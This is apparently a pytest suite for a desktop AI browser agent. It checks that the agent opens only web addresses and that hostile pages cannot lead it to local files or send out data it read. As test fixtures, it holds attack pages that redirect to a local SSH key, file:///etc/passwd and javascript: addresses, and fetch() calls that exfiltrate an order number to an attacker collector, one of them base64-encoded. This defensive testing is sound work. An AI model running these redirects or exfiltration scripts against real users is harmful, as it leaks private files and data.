"""Web addresses only (issue 28, point 1), in the real offscreen QtWebEngine: the agent opens http(s)
and about:blank, never a local file, a folder, a script address or a browser page; a page's link,
script, refresh, redirect, form or popup cannot take it there while it acts; a tab the user opened
on a local file is neither read nor shown to the model; the user's own address bar still opens one.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QUrl

from jawad_desktop.browser.driver import QtWebEnginePage
from jawad_desktop.core.tools.browser import browser_registry, read_page
from jawad_desktop.core.tools.page import PageError
from jawad_desktop.core.tools.registry import ToolArgumentsError
from tests.fixtures.model_tools import ModelTools
from tests.servers.loopback import send_html, serving

Run = Callable[..., Any]
SECRET = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 the-users-private-key-line"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A local file the agent must never read, with a second file beside it (a folder to list)."""
    path = tmp_path / "id_ed25519"
    path.write_text(SECRET + "\n", encoding="utf-8")
    (tmp_path / "notes.txt").write_text("bank PIN 4921\n", encoding="utf-8")
    return path


def _pages(target: str) -> dict[str, str]:
    """Pages whose own link, script, refresh, form or popup goes to ``target``."""
    head = "<!doctype html><html><head><meta charset='utf-8'><title>{title}</title>{extra}</head><body>"
    return {
        "/link": head.format(title="Notes", extra="") + f"<a id='go' href='{target}'>Open the notes</a></body></html>",
        "/script": head.format(title="Script", extra="") +
        f"<button id='go' onclick=\"window.location='{target}'\">Continue</button></body></html>",
        "/popup": head.format(title="Popup", extra="") +
        f"<button id='go' onclick=\"window.open('{target}')\">Open in a new window</button></body></html>",
        "/form": head.format(title="Form", extra="") +
        f"<form method='get' action='{target}'><input name='q' value='x'><button id='go'>Send</button></form>"
        "</body></html>",
        "/refresh": head.format(title="Refresh", extra=f"<meta http-equiv='refresh' content='0;url={target}'>") +
        "<p>Moving on</p></body></html>",
        "/later": head.format(title="Later", extra="") +
        f"<button id='go' onclick=\"setTimeout(function () {{ location.href = '{target}'; }}, 300)\">Next</button>"
        "</body></html>",
    }


@pytest.fixture
def attack_site(secret_file: Path) -> Iterator[str]:
    """A loopback site whose pages try to take the agent to ``secret_file`` (and /redirect: a 302)."""
    pages = _pages(secret_file.as_uri())

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.split("?")[0]
            if path == "/redirect":
                self.send_response(302)
                self.send_header("Location", secret_file.as_uri())
                self.end_headers()
                return
            send_html(self, pages.get(path, "<!doctype html><title>Home</title><p>Home</p>"),
                      200 if path in pages or path == "/" else 404)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with serving(Handler, "attack-site") as url:
        yield url


class Agent(ModelTools):
    """The browser tools as the model calls them, through their argument checks."""

    def url(self) -> str:
        return str(self.arun(self.page.url()))


@pytest.fixture
def agent(web_page: QtWebEnginePage, arun: Run) -> Agent:
    return Agent(web_page, arun)


def _refused(exc: ToolArgumentsError) -> str:
    return str(exc)


@pytest.mark.parametrize("address", [
    "file:///etc/passwd", "FILE:///etc/hostname", "javascript:document.title='pwned'", "data:text/html,<p>hi</p>",
    "view-source:http://127.0.0.1/", "chrome://settings", "devtools://devtools/bundled/inspector.html",
    "blob:http://127.0.0.1/0b1c", "jawad-custom:open", "about:config",
])
def test_navigate_refuses_what_is_not_a_web_address_before_anyone_is_asked(address: str) -> None:
    tool = browser_registry().get("navigate")
    assert tool is not None
    with pytest.raises(ToolArgumentsError) as refused:
        tool.validate({"url": address})
    text = _refused(refused.value)
    assert "Jawad opens web addresses only (http and https)" in text, text
    assert tool.validate({"url": "example.com"}) and tool.validate({"url": "localhost:8080/x"})
    assert tool.validate({"url": "about:blank"})


def test_a_local_file_and_a_folder_never_reach_the_model(agent: Agent, secret_file: Path, attack_site: str,
                                                         arun: Run) -> None:
    agent("navigate", url=f"{attack_site}/")
    for address in (secret_file.as_uri(), secret_file.parent.as_uri() + "/", str(secret_file)):
        with pytest.raises(PageError) as refused:
            arun(agent.page.navigate(address))
        assert refused.value.code == "not_web_address"
        assert agent.url() == f"{attack_site}/"
    reading = arun(read_page(agent.page))
    assert SECRET not in reading.for_model() and "notes.txt" not in reading.for_model()


def test_a_script_address_is_refused_and_does_not_run(agent: Agent, attack_site: str, arun: Run) -> None:
    agent("navigate", url=f"{attack_site}/")
    with pytest.raises(PageError) as refused:
        arun(agent.page.navigate("javascript:document.title='pwned';void 0"))
    assert refused.value.code == "not_web_address" and "a javascript: address" in refused.value.message
    assert arun(agent.page.run_js("document.title", world=0)) == "Home"


# Chromium refuses a web page's way to a local file too, and says so: the agent's guard is the second lock.
LOCAL_REFUSED = pytest.mark.qt_log_ignore("Not allowed to load local resource", "Unsafe redirect")


@LOCAL_REFUSED
@pytest.mark.parametrize("page", ["/link", "/script", "/popup", "/form", "/later"])
def test_a_pages_own_way_to_a_local_file_goes_nowhere(agent: Agent, attack_site: str, page: str,
                                                      arun: Run, qtbot: Any) -> None:
    """A link, a script, a popup, a form or a delayed script the agent's click sets off: the page (and
    every tab) stays on the web, and nothing of the file reaches the model."""
    agent("navigate", url=f"{attack_site}{page}")
    result = agent("click_element", selector="#go")
    assert result.ok, result.for_model
    qtbot.wait(800)  # the delayed script's turn
    for tab in arun(agent.page.tabs()):
        assert not tab.url.startswith("file:"), tab
    assert agent.url().startswith(attack_site)
    after = agent("read_page")
    assert SECRET not in after.for_model + result.for_model


@LOCAL_REFUSED
@pytest.mark.parametrize("page", ["/refresh", "/redirect"])
def test_a_refresh_or_a_redirect_to_a_local_file_goes_nowhere(agent: Agent, attack_site: str, page: str,
                                                              arun: Run, qtbot: Any) -> None:
    result = agent("navigate", url=f"{attack_site}{page}")
    qtbot.wait(500)
    assert not agent.url().startswith("file:"), agent.url()
    assert SECRET not in result.for_model + agent("read_page").for_model


def test_a_tab_the_user_opened_on_a_local_file_is_not_read(agent: Agent, secret_file: Path, arun: Run,
                                                           qtbot: Any) -> None:
    """The user may open a local file themselves; the agent then neither reads nor sees that tab."""
    with qtbot.waitSignal(agent.page.page.loadFinished, timeout=10_000):
        agent.page.page.load(QUrl.fromLocalFile(str(secret_file)))  # as the address bar does
    assert agent.url().startswith("file:")
    reading = agent("read_page")
    assert not reading.ok and "which is a file: address, not a web page" in reading.for_model, reading.for_model
    assert SECRET not in reading.for_model
    with pytest.raises(PageError):
        arun(agent.page.screenshot())
    clicked = agent("click_element", selector="body")
    assert not clicked.ok and SECRET not in clicked.for_model


def test_the_address_bar_still_opens_a_local_file(qtbot: Any, web_profile: Any, secret_file: Path,
                                                  arun: Run) -> None:
    """Typing a file's address is the user's own, visible choice: the agent's driver lets it load."""
    from jawad_desktop.ui.window.browser_pane import BrowserPane

    pane = BrowserPane(web_profile)
    qtbot.addWidget(pane)
    pane.resize(800, 600)
    pane.show()
    qtbot.waitExposed(pane)
    driver = QtWebEnginePage(pane.view, navigation_guard=lambda _from, _to: False)  # as the window's assistant
    arun(driver.navigate("about:blank"))  # the agent just worked here: its window for page navigations is open
    pane.address.setText(secret_file.as_uri())
    with qtbot.waitSignal(pane.view.loadFinished, timeout=10_000):
        pane._go()
    assert pane.view.url().toString() == secret_file.as_uri()
    assert SECRET in arun(driver.run_js("document.body.innerText", world=0))  # the user sees the file


def test_going_back_to_a_local_file_the_user_opened_reads_nothing(agent: Agent, secret_file: Path, attack_site: str,
                                                                 qtbot: Any) -> None:
    """History is a way back to a file the user looked at before the agent came."""
    with qtbot.waitSignal(agent.page.page.loadFinished, timeout=10_000):
        agent.page.page.load(QUrl.fromLocalFile(str(secret_file)))
    agent("navigate", url=f"{attack_site}/")
    back = agent("go_back")
    after = agent("read_page")
    assert SECRET not in back.for_model + after.for_model, after.for_model
    assert not after.ok or agent.url().startswith(attack_site)


def test_a_link_whose_address_is_a_script_is_not_clicked_a_no_op_one_is(web_page: QtWebEnginePage,
                                                                       arun: Run) -> None:
    """A page's <a href="javascript:..."> runs its code when clicked: the agent refuses it (issue 28's
    script addresses). A "javascript:void(0)" link only hands the click to the page's handler."""
    page = ("<!doctype html><html><head><meta charset='utf-8'><title>Links</title></head><body>"
            "<a id='script' href=\"javascript:document.title='ran'\">Open the receipt</a> "
            "<a id='noop' href='javascript:void(0)' onclick=\"document.title='clicked'\">Show more</a>"
            "</body></html>")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    agent = Agent(web_page, arun)
    with serving(Handler, "script-links") as url:
        agent("navigate", url=f"{url}/")
        refused = agent("click_element", selector="#script")
        assert not refused.ok and "runs a script written into its address" in refused.for_model
        assert arun(web_page.run_js("document.title", world=0)) == "Links"
        agent("click_element", selector="#noop")
        assert arun(web_page.run_js("document.title", world=0)) == "clicked"


def test_a_pages_own_script_cannot_send_what_the_agent_read_elsewhere(web_page: QtWebEnginePage, arun: Run,
                                                                     qtbot: Any) -> None:
    """VPI-Bench's form that its script posts to the attacker (issue 28): after the agent typed what
    it read into the page, the page's POST to another site is blocked, as is a request whose address
    carries a read value in disguise; the page's other requests go through."""
    import base64

    from jawad_desktop.core.harbor.engine import Harbor
    from jawad_desktop.core.tools.browser import make_request_guard

    arrived: list[str] = []

    class Collector(BaseHTTPRequestHandler):
        def _note(self) -> None:
            size = int(self.headers.get("Content-Length") or 0)
            arrived.append(f"{self.command} {self.path} {self.rfile.read(size).decode(errors='replace')}")
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_GET = do_POST = _note

        def log_message(self, format: str, *args: Any) -> None:
            pass

    page = ("<!doctype html><html><head><meta charset='utf-8'><title>Shop</title></head><body>"
            "<p>Order number: JD-48213-K</p><form id='f'><input name='order'></form></body></html>")

    class Shop(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    harbor = Harbor()
    agent = Agent(web_page, arun)
    web_page.request_guard = make_request_guard(harbor, agent.ctx.browser)
    with serving(Shop, "shop") as shop, serving(Collector, "collector") as collector:
        attacker = collector.replace("127.0.0.1", "localhost")  # another site
        agent("navigate", url=f"{shop}/")
        harbor.dataflow.record("Order number: JD-48213-K", shop)
        agent.ctx.browser.note_typed(f"{shop}/", "JD-48213-K")
        encoded = base64.b64encode(b"JD-48213-K").decode()
        arun(web_page.run_js(
            f"fetch('{attacker}/sheet', {{method: 'POST', mode: 'no-cors', body: 'order=JD-48213-K'}})"
            ".catch(function () {});"
            f"fetch('{attacker}/pixel?o={encoded}', {{mode: 'no-cors'}}).catch(function () {{}});"
            f"fetch('{attacker}/hello', {{mode: 'no-cors'}}).catch(function () {{}}); 1", world=0))
        qtbot.waitUntil(lambda: any("/hello" in a for a in arrived), timeout=10_000)
        qtbot.wait(300)
    assert [a for a in arrived if "/sheet" in a or "/pixel" in a] == []
    blocked = " ".join(web_page.blocked_requests)
    assert "/sheet" in blocked and "/pixel" in blocked
